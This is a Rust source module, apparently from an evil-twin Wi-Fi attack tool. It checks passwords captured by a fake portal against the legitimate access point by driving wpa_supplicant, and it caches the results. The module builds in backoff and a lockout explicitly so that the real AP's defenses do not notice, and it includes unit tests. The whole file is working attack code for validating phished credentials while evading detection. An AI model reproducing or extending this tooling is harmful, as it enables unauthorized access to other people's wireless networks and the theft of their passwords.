//! Credential validation against the legitimate AP.
//!
//! Tests captured credentials by driving a one-shot wpa_supplicant attempt
//! against the real network. Verdicts are cached, attempts are rate limited
//! with exponential backoff, and a lockout suppresses validation entirely
//! after too many failures so the authentic AP's defenses stay quiet.

use std::collections::HashMap;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::mpsc;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use crate::config::ValidatorSettings;
use crate::error::{AttackError, Result};
use crate::process::ChildProcess;
use crate::target::{channel_to_freq, Target};

const SUCCESS_MARKERS: &[&str] = &["WPA: Key negotiation completed", "CTRL-EVENT-CONNECTED"];
const PROBE_POLL_INTERVAL: Duration = Duration::from_millis(200);

/// One credential to test against the real network.
#[derive(Debug, Clone)]
pub struct AuthRequest {
    pub ssid: String,
    pub bssid: String,
    pub password: String,
    pub channel: u8,
}

/// Outcome of a single authentication probe.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProbeVerdict {
    /// Key negotiation completed; the credential is valid
    Valid,
    /// A failure marker matched
    Invalid(String),
    /// No verdict before the timeout expired
    Timeout,
}

/// External authentication collaborator.
pub trait AuthProbe: Send {
    fn authenticate(&mut self, request: &AuthRequest, timeout: Duration) -> Result<ProbeVerdict>;
}

/// wpa_supplicant-backed probe: writes a one-shot config, spawns the
/// supplicant, and watches its debug output for verdict markers.
pub struct WpaSupplicantProbe {
    interface: String,
    conf_dir: PathBuf,
    attempt_seq: u32,
}

impl WpaSupplicantProbe {
    pub fn new(interface: &str, conf_dir: impl Into<PathBuf>) -> Self {
        Self {
            interface: interface.to_string(),
            conf_dir: conf_dir.into(),
            attempt_seq: 0,
        }
    }

    fn write_config(&mut self, request: &AuthRequest) -> Result<PathBuf> {
        std::fs::create_dir_all(&self.conf_dir)?;
        self.attempt_seq += 1;
        let path = self
            .conf_dir
            .join(format!("wpa_probe_{}.conf", self.attempt_seq));

        let config = format!(
            "ctrl_interface=/var/run/wpa_supplicant\n\
             ap_scan=1\n\
             fast_reauth=1\n\
             \n\
             network={{\n\
             \tssid=\"{}\"\n\
             \tbssid={}\n\
             \tpsk=\"{}\"\n\
             \tkey_mgmt=WPA-PSK\n\
             \tproto=RSN WPA\n\
             \tpairwise=CCMP TKIP\n\
             \tgroup=CCMP TKIP\n\
             \tscan_freq={}\n\
             }}\n",
            request.ssid,
            request.bssid,
            request.password,
            channel_to_freq(request.channel)
        );
        std::fs::write(&path, config)?;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600))?;
        Ok(path)
    }

    fn match_output(output: &str) -> Option<ProbeVerdict> {
        for marker in SUCCESS_MARKERS {
            if output.contains(marker) {
                return Some(ProbeVerdict::Valid);
            }
        }
        if output.contains("CTRL-EVENT-SSID-TEMP-DISABLED") {
            return Some(ProbeVerdict::Invalid(
                "AP temporarily disabled (too many failed attempts)".to_string(),
            ));
        }
        if output.contains("4-Way Handshake failed") {
            return Some(ProbeVerdict::Invalid("Invalid password".to_string()));
        }
        if output.contains("authentication with") && output.contains("timed out") {
            return Some(ProbeVerdict::Invalid("Authentication timed out".to_string()));
        }
        None
    }
}

impl AuthProbe for WpaSupplicantProbe {
    fn authenticate(&mut self, request: &AuthRequest, timeout: Duration) -> Result<ProbeVerdict> {
        let config_path = self.write_config(request)?;

        let result = (|| {
            let config_str = config_path.to_string_lossy().into_owned();
            let mut proc = ChildProcess::spawn(
                "wpa_supplicant",
                "wpa_supplicant",
                &[
                    "-i",
                    &self.interface,
                    "-c",
                    &config_str,
                    "-D",
                    "nl80211",
                    "-d",
                ],
            )?;

            let start = Instant::now();
            let mut verdict = ProbeVerdict::Timeout;
            while start.elapsed() < timeout {
                if let Some(found) = Self::match_output(&proc.output_snapshot()) {
                    verdict = found;
                    break;
                }
                if proc.poll().is_some() {
                    // Supplicant exited without a marker; one last look at
                    // what it wrote.
                    verdict = Self::match_output(&proc.output_snapshot())
                        .unwrap_or(ProbeVerdict::Timeout);
                    break;
                }
                thread::sleep(PROBE_POLL_INTERVAL);
            }

            proc.stop_with_grace(Duration::from_millis(500))?;
            Ok(verdict)
        })();

        let _ = std::fs::remove_file(&config_path);
        result
    }
}

/// Result surface of `validate`: verdict, wall time, and the per-attempt
/// error (if any). Per-attempt errors never end the attack loop.
#[derive(Debug)]
pub struct ValidationReport {
    pub valid: bool,
    pub elapsed: Duration,
    pub error: Option<AttackError>,
}

/// Counters exposed for status display.
#[derive(Debug, Clone, Default)]
pub struct ValidatorStatistics {
    pub total_validations: u64,
    pub successful_validations: u64,
    pub failed_validations: u64,
    pub cached_results: u64,
    pub attempt_count: u32,
    pub consecutive_failures: u32,
    pub backoff_multiplier: f64,
    pub is_locked_out: bool,
}

struct RateState {
    last_validation: Option<Instant>,
    attempt_count: u32,
    failed_attempt_count: u32,
    consecutive_failures: u32,
    backoff_multiplier: f64,
    is_locked_out: bool,
    lockout_until: Option<Instant>,

    total_validations: u64,
    successful_validations: u64,
    failed_validations: u64,
    cached_results: u64,
}

impl RateState {
    fn new() -> Self {
        Self {
            last_validation: None,
            attempt_count: 0,
            failed_attempt_count: 0,
            consecutive_failures: 0,
            backoff_multiplier: 1.0,
            is_locked_out: false,
            lockout_until: None,
            total_validations: 0,
            successful_validations: 0,
            failed_validations: 0,
            cached_results: 0,
        }
    }
}

type CacheKey = (String, String);

/// Validates credentials against the legitimate AP with caching, backoff,
/// and anti-detection lockout. The cache and the rate state live under
/// separate mutexes; neither is ever held across a probe.
pub struct CredentialValidator {
    target: Target,
    settings: ValidatorSettings,
    probe: Mutex<Box<dyn AuthProbe>>,
    cache: Mutex<HashMap<CacheKey, (bool, Instant)>>,
    rate: Mutex<RateState>,
}

impl CredentialValidator {
    pub fn new(target: Target, settings: ValidatorSettings, probe: Box<dyn AuthProbe>) -> Self {
        Self {
            target,
            settings,
            probe: Mutex::new(probe),
            cache: Mutex::new(HashMap::new()),
            rate: Mutex::new(RateState::new()),
        }
    }

    /// Validate one credential, blocking for the backoff delay plus up to
    /// `timeout` of probe polling.
    pub fn validate(&self, ssid: &str, password: &str, timeout: Duration) -> ValidationReport {
        let start = Instant::now();

        if let Some(remaining) = self.lockout_remaining() {
            tracing::warn!(
                remaining_secs = remaining.as_secs(),
                "validation suppressed by lockout"
            );
            return ValidationReport {
                valid: false,
                elapsed: start.elapsed(),
                error: Some(AttackError::ValidationLockedOut {
                    remaining_secs: remaining.as_secs(),
                }),
            };
        }

        if let Some(cached) = self.check_cache(ssid, password) {
            self.rate.lock().unwrap().cached_results += 1;
            tracing::debug!(ssid, cached, "using cached validation result");
            return ValidationReport {
                valid: cached,
                elapsed: start.elapsed(),
                error: None,
            };
        }

        let attempt = {
            let mut rate = self.rate.lock().unwrap();
            rate.attempt_count += 1;
            rate.attempt_count
        };
        tracing::info!(ssid, attempt, password = %mask_password(password), "validating credential");

        self.apply_rate_limit();

        let request = AuthRequest {
            ssid: ssid.to_string(),
            bssid: self.target.bssid.clone(),
            password: password.to_string(),
            channel: self.target.channel,
        };
        let outcome = self.probe.lock().unwrap().authenticate(&request, timeout);

        let (valid, error) = match outcome {
            Ok(ProbeVerdict::Valid) => (true, None),
            Ok(ProbeVerdict::Invalid(reason)) => {
                (false, Some(AttackError::InvalidCredential(reason)))
            }
            Ok(ProbeVerdict::Timeout) => (
                false,
                Some(AttackError::ValidationTimeout(timeout.as_secs_f64())),
            ),
            Err(err) => (false, Some(err)),
        };

        self.record_outcome(valid);
        self.cache_result(ssid, password, valid);

        let elapsed = start.elapsed();
        if valid {
            tracing::info!(ssid, elapsed_secs = elapsed.as_secs_f64(), "credential is valid");
        } else {
            tracing::info!(ssid, error = ?error, "credential rejected");
        }

        ValidationReport { valid, elapsed, error }
    }

    /// True while the lockout is active; expiry is evaluated lazily here.
    pub fn is_locked_out(&self) -> bool {
        self.lockout_remaining().is_some()
    }

    fn lockout_remaining(&self) -> Option<Duration> {
        let mut rate = self.rate.lock().unwrap();
        if !rate.is_locked_out {
            return None;
        }
        match rate.lockout_until {
            Some(until) => {
                let now = Instant::now();
                if now >= until {
                    rate.is_locked_out = false;
                    rate.lockout_until = None;
                    tracing::info!("lockout period ended, resuming validation");
                    None
                } else {
                    Some(until - now)
                }
            }
            None => {
                rate.is_locked_out = false;
                None
            }
        }
    }

    fn check_cache(&self, ssid: &str, password: &str) -> Option<bool> {
        let mut cache = self.cache.lock().unwrap();
        let key = (ssid.to_string(), password.to_string());
        match cache.get(&key) {
            Some(&(valid, stamp)) if stamp.elapsed() < self.settings.cache_ttl() => Some(valid),
            Some(_) => {
                cache.remove(&key);
                None
            }
            None => None,
        }
    }

    fn cache_result(&self, ssid: &str, password: &str, valid: bool) {
        let mut cache = self.cache.lock().unwrap();
        if cache.len() >= self.settings.max_cache_size {
            // Evict the oldest 20% to make room.
            let to_remove = (self.settings.max_cache_size / 5).max(1);
            let mut entries: Vec<(CacheKey, Instant)> = cache
                .iter()
                .map(|(k, &(_, stamp))| (k.clone(), stamp))
                .collect();
            entries.sort_by_key(|&(_, stamp)| stamp);
            for (key, _) in entries.into_iter().take(to_remove) {
                cache.remove(&key);
            }
            tracing::debug!(removed = to_remove, "validation cache pruned");
        }
        cache.insert((ssid.to_string(), password.to_string()), (valid, Instant::now()));
    }

    /// Sleep until the backoff-adjusted interval since the last attempt has
    /// passed.
    fn apply_rate_limit(&self) {
        let (delay, multiplier) = {
            let rate = self.rate.lock().unwrap();
            let effective = self
                .settings
                .min_interval()
                .mul_f64(rate.backoff_multiplier);
            let since_last = rate
                .last_validation
                .map(|at| at.elapsed())
                .unwrap_or(effective);
            (effective.saturating_sub(since_last), rate.backoff_multiplier)
        };

        if !delay.is_zero() {
            tracing::debug!(
                delay_secs = delay.as_secs_f64(),
                backoff = multiplier,
                "rate limiting validation"
            );
            thread::sleep(delay);
        }

        self.rate.lock().unwrap().last_validation = Some(Instant::now());
    }

    fn record_outcome(&self, valid: bool) {
        let mut rate = self.rate.lock().unwrap();
        rate.total_validations += 1;

        if valid {
            rate.successful_validations += 1;
            rate.backoff_multiplier = 1.0;
            rate.consecutive_failures = 0;
            rate.is_locked_out = false;
            rate.lockout_until = None;
            return;
        }

        rate.failed_validations += 1;
        rate.failed_attempt_count += 1;
        rate.consecutive_failures += 1;

        // A single mistake is free; repeated failures double the delay.
        if rate.consecutive_failures >= 2 {
            rate.backoff_multiplier =
                (rate.backoff_multiplier * 2.0).min(self.settings.max_backoff_multiplier);
            tracing::warn!(
                backoff = rate.backoff_multiplier,
                failures = rate.consecutive_failures,
                "increased validation backoff"
            );
        }

        if rate.failed_attempt_count >= self.settings.lockout_threshold && !rate.is_locked_out {
            rate.is_locked_out = true;
            rate.lockout_until = Some(Instant::now() + self.settings.lockout_duration());
            rate.failed_attempt_count = 0;
            tracing::warn!(
                duration_secs = self.settings.lockout_duration().as_secs(),
                "lockout triggered to avoid tripping AP defenses"
            );
        }
    }

    pub fn statistics(&self) -> ValidatorStatistics {
        let rate = self.rate.lock().unwrap();
        ValidatorStatistics {
            total_validations: rate.total_validations,
            successful_validations: rate.successful_validations,
            failed_validations: rate.failed_validations,
            cached_results: rate.cached_results,
            attempt_count: rate.attempt_count,
            consecutive_failures: rate.consecutive_failures,
            backoff_multiplier: rate.backoff_multiplier,
            is_locked_out: rate.is_locked_out,
        }
    }

    pub fn clear_cache(&self) {
        self.cache.lock().unwrap().clear();
    }

    #[cfg(test)]
    fn seed_cache(&self, ssid: &str, password: &str, valid: bool, age: Duration) {
        let stamp = Instant::now().checked_sub(age).unwrap();
        self.cache
            .lock()
            .unwrap()
            .insert((ssid.to_string(), password.to_string()), (valid, stamp));
    }
}

fn mask_password(password: &str) -> String {
    let chars: Vec<char> = password.chars().collect();
    if chars.len() > 2 {
        let head: String = chars[..2].iter().collect();
        format!("{}{}", head, "*".repeat(chars.len() - 2))
    } else {
        "**".to_string()
    }
}

enum QueueMessage {
    Job {
        ssid: String,
        password: String,
        callback: Box<dyn FnOnce(ValidationReport) + Send>,
    },
    Shutdown,
}

/// Queued validation mode: a producer (the portal) hands credentials to a
/// dedicated worker without blocking its own call path.
pub struct ValidationQueue {
    tx: mpsc::Sender<QueueMessage>,
    handle: Option<thread::JoinHandle<()>>,
    depth: Arc<AtomicU32>,
}

impl ValidationQueue {
    pub fn start(validator: Arc<CredentialValidator>) -> Self {
        let (tx, rx) = mpsc::channel::<QueueMessage>();
        let depth = Arc::new(AtomicU32::new(0));
        let worker_depth = Arc::clone(&depth);
        let timeout = validator.settings.timeout();

        let handle = thread::spawn(move || {
            tracing::debug!("validation worker started");
            while let Ok(message) = rx.recv() {
                match message {
                    QueueMessage::Job {
                        ssid,
                        password,
                        callback,
                    } => {
                        let report = validator.validate(&ssid, &password, timeout);
                        worker_depth.fetch_sub(1, Ordering::SeqCst);
                        callback(report);
                    }
                    QueueMessage::Shutdown => break,
                }
            }
            tracing::debug!("validation worker stopped");
        });

        Self {
            tx,
            handle: Some(handle),
            depth,
        }
    }

    pub fn queue(
        &self,
        ssid: &str,
        password: &str,
        callback: impl FnOnce(ValidationReport) + Send + 'static,
    ) {
        self.depth.fetch_add(1, Ordering::SeqCst);
        let _ = self.tx.send(QueueMessage::Job {
            ssid: ssid.to_string(),
            password: password.to_string(),
            callback: Box::new(callback),
        });
    }

    pub fn pending(&self) -> u32 {
        self.depth.load(Ordering::SeqCst)
    }

    pub fn stop(&mut self) {
        let _ = self.tx.send(QueueMessage::Shutdown);
        if let Some(handle) = self.handle.take() {
            let _ = handle.join();
        }
    }
}

impl Drop for ValidationQueue {
    fn drop(&mut self) {
        self.stop();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct StubProbe {
        verdict: ProbeVerdict,
        spawns: Arc<AtomicU32>,
    }

    impl AuthProbe for StubProbe {
        fn authenticate(&mut self, _req: &AuthRequest, _timeout: Duration) -> Result<ProbeVerdict> {
            self.spawns.fetch_add(1, Ordering::SeqCst);
            Ok(self.verdict.clone())
        }
    }

    fn fast_settings() -> ValidatorSettings {
        ValidatorSettings {
            min_interval_secs: 0.0,
            timeout_secs: 1,
            lockout_threshold: 10,
            lockout_duration_secs: 300,
            max_backoff_multiplier: 16.0,
            cache_ttl_secs: 300,
            max_cache_size: 100,
        }
    }

    fn validator_with(
        verdict: ProbeVerdict,
        settings: ValidatorSettings,
    ) -> (CredentialValidator, Arc<AtomicU32>) {
        let spawns = Arc::new(AtomicU32::new(0));
        let probe = StubProbe {
            verdict,
            spawns: Arc::clone(&spawns),
        };
        let target = Target::new("00:11:22:33:44:55", "X", 6).unwrap();
        (
            CredentialValidator::new(target, settings, Box::new(probe)),
            spawns,
        )
    }

    #[test]
    fn test_cache_hit_within_ttl() {
        let (validator, spawns) = validator_with(ProbeVerdict::Valid, fast_settings());

        validator.seed_cache("X", "Y", true, Duration::from_secs(10));
        let report = validator.validate("X", "Y", Duration::from_secs(1));
        assert!(report.valid);
        assert!(report.error.is_none());
        assert_eq!(spawns.load(Ordering::SeqCst), 0, "cache hit must not spawn");
    }

    #[test]
    fn test_cache_entry_older_than_ttl_is_a_miss() {
        let mut settings = fast_settings();
        settings.cache_ttl_secs = 1;
        let (validator, spawns) = validator_with(ProbeVerdict::Valid, settings);

        // An entry aged past the TTL is dropped and the probe runs again.
        validator.seed_cache("X", "Y", true, Duration::from_secs(2));
        let report = validator.validate("X", "Y", Duration::from_secs(1));
        assert!(report.valid);
        assert_eq!(spawns.load(Ordering::SeqCst), 1);
    }

    #[test]
    fn test_cache_eviction_at_capacity() {
        let mut settings = fast_settings();
        settings.max_cache_size = 10;
        let (validator, _) = validator_with(ProbeVerdict::Valid, settings);

        for i in 0..10 {
            validator.seed_cache("X", &format!("pw{i}"), false, Duration::from_secs(10 - i as u64));
        }
        validator.cache_result("X", "newest", true);

        let cache = validator.cache.lock().unwrap();
        // Oldest 20% (2 entries) gone, newest present.
        assert_eq!(cache.len(), 9);
        assert!(cache.contains_key(&("X".to_string(), "newest".to_string())));
        assert!(!cache.contains_key(&("X".to_string(), "pw0".to_string())));
    }

    #[test]
    fn test_lockout_fires_and_expires() {
        let mut settings = fast_settings();
        settings.lockout_threshold = 3;
        settings.lockout_duration_secs = 0;
        let (validator, spawns) =
            validator_with(ProbeVerdict::Invalid("Invalid password".into()), settings);

        for i in 0..3 {
            let report = validator.validate("X", &format!("wrong{i}"), Duration::from_secs(1));
            assert!(!report.valid);
        }
        assert_eq!(spawns.load(Ordering::SeqCst), 3);

        // Zero-duration lockout expires on the next lazy check.
        assert!(!validator.is_locked_out());
    }

    #[test]
    fn test_lockout_blocks_without_spawning() {
        let mut settings = fast_settings();
        settings.lockout_threshold = 2;
        settings.lockout_duration_secs = 300;
        let (validator, spawns) =
            validator_with(ProbeVerdict::Invalid("Invalid password".into()), settings);

        let _ = validator.validate("X", "wrong0", Duration::from_secs(1));
        let _ = validator.validate("X", "wrong1", Duration::from_secs(1));
        assert!(validator.is_locked_out());
        assert_eq!(spawns.load(Ordering::SeqCst), 2);

        let report = validator.validate("X", "wrong2", Duration::from_secs(1));
        assert!(!report.valid);
        assert!(matches!(
            report.error,
            Some(AttackError::ValidationLockedOut { .. })
        ));
        assert_eq!(spawns.load(Ordering::SeqCst), 2, "lockout must not spawn");
    }

    #[test]
    fn test_backoff_doubles_after_second_failure_and_resets_on_success() {
        let mut settings = fast_settings();
        settings.lockout_threshold = 100;
        let (validator, _) =
            validator_with(ProbeVerdict::Invalid("Invalid password".into()), settings);

        let _ = validator.validate("X", "a", Duration::from_secs(1));
        assert_eq!(validator.statistics().backoff_multiplier, 1.0);

        let _ = validator.validate("X", "b", Duration::from_secs(1));
        assert_eq!(validator.statistics().backoff_multiplier, 2.0);

        let _ = validator.validate("X", "c", Duration::from_secs(1));
        assert_eq!(validator.statistics().backoff_multiplier, 4.0);

        // Cap at 16x no matter how long the streak runs.
        for i in 0..10 {
            let _ = validator.validate("X", &format!("d{i}"), Duration::from_secs(1));
        }
        assert_eq!(validator.statistics().backoff_multiplier, 16.0);

        // Swap in a succeeding probe by caching a success path: a valid
        // outcome resets the multiplier and the streak.
        validator.record_outcome(true);
        let stats = validator.statistics();
        assert_eq!(stats.backoff_multiplier, 1.0);
        assert_eq!(stats.consecutive_failures, 0);
    }

    #[test]
    fn test_timeout_verdict_reported() {
        let (validator, _) = validator_with(ProbeVerdict::Timeout, fast_settings());
        let report = validator.validate("X", "pw", Duration::from_secs(1));
        assert!(!report.valid);
        assert!(matches!(report.error, Some(AttackError::ValidationTimeout(_))));
    }

    #[test]
    fn test_queue_runs_callback_on_worker() {
        let (validator, _) = validator_with(ProbeVerdict::Valid, fast_settings());
        let validator = Arc::new(validator);
        let mut queue = ValidationQueue::start(Arc::clone(&validator));

        let (tx, rx) = mpsc::channel();
        queue.queue("X", "rightpass", move |report| {
            tx.send(report.valid).unwrap();
        });

        assert!(rx.recv_timeout(Duration::from_secs(5)).unwrap());
        assert_eq!(queue.pending(), 0);
        queue.stop();
    }

    #[test]
    fn test_probe_output_markers() {
        assert_eq!(
            WpaSupplicantProbe::match_output("wlan0: WPA: Key negotiation completed with aa:bb"),
            Some(ProbeVerdict::Valid)
        );
        assert_eq!(
            WpaSupplicantProbe::match_output("<3>CTRL-EVENT-CONNECTED - Connection to aa:bb"),
            Some(ProbeVerdict::Valid)
        );
        assert!(matches!(
            WpaSupplicantProbe::match_output("wlan0: 4-Way Handshake failed - pre-shared key may be incorrect"),
            Some(ProbeVerdict::Invalid(_))
        ));
        assert!(matches!(
            WpaSupplicantProbe::match_output("<3>CTRL-EVENT-SSID-TEMP-DISABLED id=0"),
            Some(ProbeVerdict::Invalid(_))
        ));
        assert!(matches!(
            WpaSupplicantProbe::match_output("wlan0: authentication with aa:bb timed out"),
            Some(ProbeVerdict::Invalid(_))
        ));
        assert_eq!(WpaSupplicantProbe::match_output("scanning..."), None);
    }

    #[test]
    fn test_config_generation() {
        let dir = tempfile::tempdir().unwrap();
        let mut probe = WpaSupplicantProbe::new("wlan1", dir.path());
        let request = AuthRequest {
            ssid: "HomeNetwork".into(),
            bssid: "00:11:22:33:44:55".into(),
            password: "hunter22".into(),
            channel: 6,
        };
        let path = probe.write_config(&request).unwrap();
        let content = std::fs::read_to_string(&path).unwrap();
        assert!(content.contains("ssid=\"HomeNetwork\""));
        assert!(content.contains("bssid=00:11:22:33:44:55"));
        assert!(content.contains("psk=\"hunter22\""));
        assert!(content.contains("scan_freq=2437"));
    }
}
